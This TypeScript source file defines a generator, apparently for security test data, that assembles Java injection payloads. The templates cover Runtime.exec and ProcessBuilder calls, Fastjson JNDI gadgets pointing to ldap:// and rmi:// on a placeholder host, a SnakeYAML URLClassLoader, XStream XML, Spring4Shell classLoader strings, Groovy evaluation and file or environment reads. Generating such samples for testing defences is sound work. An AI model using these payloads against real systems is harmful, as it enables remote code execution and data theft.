// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import { codeGenerator, other } from '../code-generator.js';

/** Java: run-time, scripting engines, JSP, serialised streams and typed JSON. */
export const javaObject = codeGenerator({
  name: 'java-object',
  places: other('java'),
  rules: {
    start: [
      '{open}{call};',
      '<% {call}; %>',
      '<%= {call} %>',
      '";{call};//',
      '{l}"@type":"{class}","dataSourceName":"ldap://{host}/{letters}","autoCommit":true{r}',
      '["{class}",{l}"jndiName":"rmi://{host}/{letters}"{r}]',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/"]]]]',
      'rO0AB{stream}',
      '{l}"x":{l}"@type":"java.lang.Class","val":"{class}"{r}{r}',
      'class.module.classLoader.resources.context.parent.pipeline.first.pattern={letters}',
      '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>{command}</string></void></array><void method="start"/></object></java>',
      '{open}"{command}".execute().text',
      '{open}new groovy.lang.GroovyShell().evaluate("{command}")',
    ],
    stream: (random) =>
      Buffer.from(`\u0073\u0072\u0000\u0017java.util.PriorityQueue${random.below(9999)}`).toString('base64'),
    class: [
      'com.sun.rowset.JdbcRowSetImpl',
      'org.apache.xbean.propertyeditor.JndiConverter',
      'com.zaxxer.hikari.HikariConfig',
      'org.apache.ibatis.datasource.jndi.JndiDataSourceFactory',
      'ch.qos.logback.core.db.JNDIConnectionSource',
      'com.mchange.v2.c3p0.JndiRefForwardingDataSource',
    ],
    call: [
      'Runtime.getRuntime().exec("{command}")',
      'java.lang.Runtime.getRuntime().exec("{command}")',
      'new ProcessBuilder("{command}").start()',
      'new java.lang.ProcessBuilder("sh","-c","{command}").start()',
      'new javax.script.ScriptEngineManager().getEngineByName("js").eval("{digit}")',
      'System.exit({digit})',
      'new java.util.Scanner(new java.io.File("{file}")).next()',
      'Class.forName("java.lang.Runtime")',
      'Thread.sleep({number}00)',
      'java.nio.file.Files.readAllLines(java.nio.file.Paths.get("{file}"))',
      'System.getenv()',
      'new java.net.URL("http://{host}/").openStream()',
      'out.println(System.getProperty("user.dir"))',
      'System.load("/tmp/{letters}.so")',
    ],
  },
});
